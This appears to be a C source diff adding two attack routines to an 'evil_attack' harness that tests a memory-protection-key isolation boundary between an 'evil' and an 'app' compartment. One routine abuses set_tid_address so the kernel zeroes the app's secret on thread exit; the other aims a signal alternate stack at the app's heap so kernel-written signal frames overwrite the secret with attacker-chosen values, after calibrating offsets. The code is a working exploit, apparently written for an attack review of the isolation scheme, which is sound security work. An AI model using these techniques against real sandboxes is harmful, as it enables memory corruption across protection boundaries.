@@ -7,6 +7,8 @@
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <signal.h>
+#include <limits.h>
 #include <linux/seccomp.h>
 #include <linux/filter.h>
 #include <pthread.h>
@@ -19,6 +21,7 @@
 #include <sys/socket.h>
 #include <time.h>
 #include <linux/bpf.h>
+#include <linux/futex.h>
 #include <linux/perf_event.h>
 #include <linux/userfaultfd.h>
 #include <sys/ioctl.h>
@@ -829,6 +832,179 @@ static long helper_fd_flood(void)
 	return 1;
 }
 
+static void *release_join(void *arg)
+{
+	volatile int *tidp = arg;
+	usleep(300000);
+	*tidp = 0;
+	syscall(SYS_futex, tidp, FUTEX_WAKE, INT_MAX, NULL, NULL, 0);
+	return NULL;
+}
+
+/*
+ * Called on a thread of app's (one app made): the kernel writes 0 (4 bytes)
+ * at the thread's clear_child_tid when it exits, under the PKRU it has then
+ * (app's, its start routine being app's): pointed at app's secret, that
+ * zeroes it. glibc's pthread_join, which waits for that write to its own
+ * word, is released by a thread of evil's 300 ms later.
+ */
+static long tid_address(uintptr_t target)
+{
+	int me = (int)syscall(SYS_gettid);
+	char *pd = (char *)pthread_self();
+	volatile int *tidp = NULL;
+	for (int off = 0; off < 4096; off += 4)
+		if (*(int *)(pd + off) == me) {
+			tidp = (volatile int *)(pd + off);
+			break;
+		}
+	fprintf(stderr, "set-tid-address: thread %d, pd->tid at %p; set_tid_address(%#lx)\n", me,
+		(void *)tidp, (unsigned long)target);
+	syscall(SYS_set_tid_address, target);
+	pthread_t t;
+	if (tidp && !pthread_create(&t, NULL, release_join, (void *)tidp))
+		pthread_detach(t);
+	errno = 0;
+	return 0;
+}
+
+/*
+ * The kernel writes a signal frame where the thread's signal stack says,
+ * under the PKRU of the code it interrupts (6.1). A thread of evil's names
+ * a signal stack that ends above app's secret (in app's heap), crosses
+ * into app (app_busy), and gets a signal with a siginfo of evil's
+ * (rt_tgsigqueueinfo) handled by a handler of evil's installed raw
+ * (rt_sigaction): the frame, app's registers and evil's siginfo words, is
+ * written over app's heap. A first thread, staying in evil on a stack of
+ * evil's, finds where in the frame the siginfo words land. Returns 0; app
+ * checks its secret. (An attack review's.)
+ */
+/* A handler that touches no memory: it runs with the kernel's init PKRU (key 0 only). */
+__asm__(".text\n.globl frame_spin\nframe_spin: pause\n jmp frame_spin\n");
+void frame_spin(void);
+
+struct frame_arg {
+	uintptr_t top, cal_top, size;
+	volatile pid_t tid;
+	volatile int ready;
+	volatile int err;
+};
+
+static void *frame_victim(void *arg)
+{
+	struct frame_arg *a = arg;
+	uintptr_t top = a->top ? a->top : a->cal_top;
+	size_t size = a->top ? a->size : 0x10000;
+	stack_t ss = {.ss_sp = (void *)(top - size), .ss_size = size, .ss_flags = 0};
+
+	a->tid = (pid_t)syscall(SYS_gettid);
+	/* This thread's signal stack: ends just above app's secret (never touched here). */
+	if (syscall(SYS_sigaltstack, &ss, NULL)) {
+		a->err = errno;
+		perror("sigaltstack-frame: sigaltstack");
+	}
+	a->ready = 1;
+	if (a->top == 0) /* calibration: stays in 'evil' */
+		for (;;)
+			usleep(1000);
+	app_busy(); /* ~300 ms in 'app', with app's PKRU */
+	return NULL;
+}
+
+struct frame_ksa {
+	void *handler;
+	unsigned long flags;
+	void *restorer;
+	unsigned long mask;
+};
+
+static long frame_sigframe(uintptr_t target)
+{
+	static struct frame_arg a, c;
+	pthread_t t;
+	const unsigned long value = 0xdeadbeefcafe;
+	struct frame_ksa ksa = {.handler = (void *)frame_spin,
+				.flags = 0x08000000 /* SA_ONSTACK */ |
+					 0x04000000 /* SA_RESTORER */ | 4 /* SA_SIGINFO */,
+				.restorer = (void *)frame_spin,
+				.mask = ~0UL};
+
+	if (syscall(SYS_rt_sigaction, SIGUSR2, &ksa, NULL, 8))
+		return 0;
+	/* Calibration: where in a frame on a key-0 buffer of evil's does si_value land? */
+	char *buf = mmap(NULL, 0x20000, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	c.top = 0;
+	c.cal_top = (uintptr_t)buf + 0x20000 - 0x10;
+	if (pthread_create(&t, NULL, frame_victim, &c))
+		return 0;
+	pthread_detach(t);
+	while (!c.ready)
+		usleep(1000);
+	usleep(10000);
+	siginfo_t ci;
+	memset(&ci, 0, sizeof(ci));
+	ci.si_signo = SIGUSR2;
+	ci.si_code = -1;
+	for (int w = 2; w < 6; w++) /* siginfo bytes 16..47: the kernel keeps 48 */
+		((unsigned long *)&ci)[w] = value;
+	syscall(SYS_rt_tgsigqueueinfo, getpid(), c.tid, SIGUSR2, &ci);
+	usleep(50000);
+	uintptr_t lo_cal = 0;
+	for (uintptr_t o = 0x10000; o < 0x20000 && !lo_cal; o += 8)
+		if (*(unsigned long *)(buf + o) == value)
+			lo_cal = (uintptr_t)(buf + o);
+	printf("sigaltstack-frame: calibration: siginfo's words at %#lx, %#lx below the signal "
+	       "stack's top\n",
+	       (unsigned long)lo_cal, (unsigned long)(c.cal_top - lo_cal));
+	if (!lo_cal) {
+		errno = c.err ? c.err : ENOENT;
+		return 0;
+	}
+	uintptr_t k = ((target - lo_cal) & 63) / 8, lo = target - 8 * k;
+	a.size = 0x10000;
+	if (k == 4) { /* uc_stack.ss_size, 0x120 below siginfo's words: the stack's size is ours */
+		lo = target + 0x120;
+		a.size = 0x41414; /* at least MINSIGSTKSZ, and not reaching down to the thread's own
+				     stack */
+	} else if (k > 4) {
+		lo = target - 8 * k; /* not a word of ours: the frame still covers it */
+	}
+	/* The victim's signal stack ends where its frame's siginfo words cover app's secret. */
+	a.top = c.cal_top + (lo - lo_cal);
+	printf("sigaltstack-frame: target %#lx, word %lu\n", (unsigned long)target,
+	       (unsigned long)k);
+	if (pthread_create(&t, NULL, frame_victim, &a))
+		return 0;
+	pthread_detach(t);
+	while (!a.ready)
+		usleep(1000);
+	usleep(100000); /* the victim is now in app_busy */
+	siginfo_t si;
+	memset(&si, 0, sizeof(si));
+	si.si_signo = SIGUSR2;
+	si.si_code = -1; /* SI_QUEUE */
+	for (int w = 2; w < 6; w++)
+		((unsigned long *)&si)[w] = value;
+	long r = syscall(SYS_rt_tgsigqueueinfo, getpid(), a.tid, SIGUSR2, &si);
+	printf("sigaltstack-frame: rt_tgsigqueueinfo to %d: %ld\n", (int)a.tid, r);
+	fflush(stdout);
+	usleep(50000);
+	char pth[96], ln[256];
+	snprintf(pth, sizeof(pth), "/proc/self/task/%d/status", (int)a.tid);
+	FILE *f = fopen(pth, "r");
+	if (!f)
+		perror(pth);
+	while (f && fgets(ln, sizeof(ln), f))
+		if (!strncmp(ln, "State", 5) || !strncmp(ln, "Sig", 3) || !strncmp(ln, "ShdPnd", 6))
+			printf("sigaltstack-frame: victim %s", ln);
+	if (f)
+		fclose(f);
+	fflush(stdout);
+	usleep(300000);
+	errno = a.err;
+	return 0;
+}
+
 static void *relay(void *arg)
 {
 	app_hold((int)(intptr_t)arg);
@@ -1015,6 +1191,10 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 	}
 	case 44:
 		return helper_fd_flood();
+	case 45:
+		return tid_address(target);
+	case 46:
+		return frame_sigframe(target);
 	case 29: /* every stack of every pool free: the next thread gets one in use */
 		for (uint64_t c = 0; c < 16; c++) {
 			size_t n = 0;
